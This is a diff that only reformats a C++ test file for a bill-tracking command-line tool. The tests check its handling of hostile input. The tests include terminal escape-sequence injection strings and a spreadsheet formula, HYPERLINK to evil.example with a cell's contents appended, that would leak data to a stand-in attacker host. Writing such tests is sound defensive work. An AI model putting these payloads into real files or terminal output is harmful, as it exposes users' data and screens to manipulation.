@@ -69,7 +69,8 @@ bool has_control(const std::string& s) {
 TEST_F(HostileInputTest, EscapeSequencesInAPageNeverReachTheTerminal) {
   const std::string title =
       "Restraint \x1b]0;pwned\x07\x1b[2J\x1b[8mhidden\x1b]8;;https://evil.example\x1b\\link "
-      "\xC2\x9B" "31m";
+      "\xC2\x9B"
+      "31m";
   m_http.server().Get("/evil.txt", [&](const httplib::Request&, httplib::Response& res) {
     res.set_content(title + "\n\nNo student may be placed in seclusion.\x7f\r\n",
                     "text/plain; charset=utf-8");
@@ -79,14 +80,17 @@ TEST_F(HostileInputTest, EscapeSequencesInAPageNeverReachTheTerminal) {
   ASSERT_EQ(run.code, 0) << run.err;
   EXPECT_FALSE(has_control(run.out + run.err)) << run.err;
   EXPECT_NE(run.err.find("\\x1b]0;pwned\\x07"), std::string::npos) << "shown, not obeyed";
-  ASSERT_EQ(cli({"--config", m_config, "subscribe", "p@example.org", "--name",
-                 "Pat \x1b[2J\x1b]0;x\x07"})
-                .code,
-            0);
-  for (std::vector<std::string> command :
-       {std::vector<std::string>{"bills"}, {"show", "WA-2025-HB-1", "--text"},
-        {"history", "WA-2025-HB-1"}, {"search", "seclusion"}, {"subscriptions"}, {"outbox"},
-        {"diff", "WA-2025-HB-1", "--from", "1", "--to", "1"}}) {
+  ASSERT_EQ(
+      cli({"--config", m_config, "subscribe", "p@example.org", "--name", "Pat \x1b[2J\x1b]0;x\x07"})
+          .code,
+      0);
+  for (std::vector<std::string> command : {std::vector<std::string>{"bills"},
+                                           {"show", "WA-2025-HB-1", "--text"},
+                                           {"history", "WA-2025-HB-1"},
+                                           {"search", "seclusion"},
+                                           {"subscriptions"},
+                                           {"outbox"},
+                                           {"diff", "WA-2025-HB-1", "--from", "1", "--to", "1"}}) {
     command.insert(command.begin(), {"--config", m_config});
     auto result = cli(command);
     EXPECT_EQ(result.code, 0) << command[2] << ": " << result.err;
@@ -100,9 +104,10 @@ TEST_F(HostileInputTest, EscapeSequencesInAPageNeverReachTheTerminal) {
 
 TEST_F(HostileInputTest, AFormulaTitleOpensAsTextInASpreadsheet) {
   m_http.server().Get("/formula.txt", [](const httplib::Request&, httplib::Response& res) {
-    res.set_content("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n\nSeclusion of students "
-                    "is prohibited in schools.",
-                    "text/plain");
+    res.set_content(
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n\nSeclusion of students "
+        "is prohibited in schools.",
+        "text/plain");
   });
   write_config(k_allow + html_source("2", "/formula.txt"));
   ASSERT_EQ(cli({"--config", m_config, "run", "--quiet"}).code, 0);
@@ -134,9 +139,10 @@ TEST_F(HostileInputTest, APageWithThousandsOfLinksOrLinksElsewhereCostsLittle) {
     ++version_requests;
     res.set_content("Sec. 1. Seclusion is prohibited.", "text/plain");
   });
-  write_config("[crawler]\nallow_private = [\"127.0.0.1\"]\nmin_delay_ms = 0\n"
-               "per_host_concurrency = 8\nmax_links_per_page = 20\n" +
-               html_source("9", "/bill", "[source.selectors]\ntitle = \"h1\"\nversions = \"a.v\"\n"));
+  write_config(
+      "[crawler]\nallow_private = [\"127.0.0.1\"]\nmin_delay_ms = 0\n"
+      "per_host_concurrency = 8\nmax_links_per_page = 20\n" +
+      html_source("9", "/bill", "[source.selectors]\ntitle = \"h1\"\nversions = \"a.v\"\n"));
   auto run = cli({"--config", m_config, "run", "--json"});
   auto summary = nlohmann::json::parse(run.out);
   EXPECT_EQ(version_requests, 20) << run.err;
@@ -180,7 +186,8 @@ TEST_F(HostileInputTest, ASmtpPasswordIsNeverSentWithoutTls) {
   // at once with `outbox --retry`, past its backoff).
   write_config(smtp_table + "starttls = \"never\"\n");
   auto notify = cli({"--config", m_config, "outbox", "--retry"});
-  EXPECT_EQ(notify.code, 0) << notify.out << notify.err << cli({"--config", m_config, "outbox"}).out;
+  EXPECT_EQ(notify.code, 0) << notify.out << notify.err
+                            << cli({"--config", m_config, "outbox"}).out;
   EXPECT_NE(notify.err.find("the SMTP password travel in clear text"), std::string::npos)
       << notify.err;
   EXPECT_NE(smtp.auth_log().find("alerts hunter2"), std::string::npos);
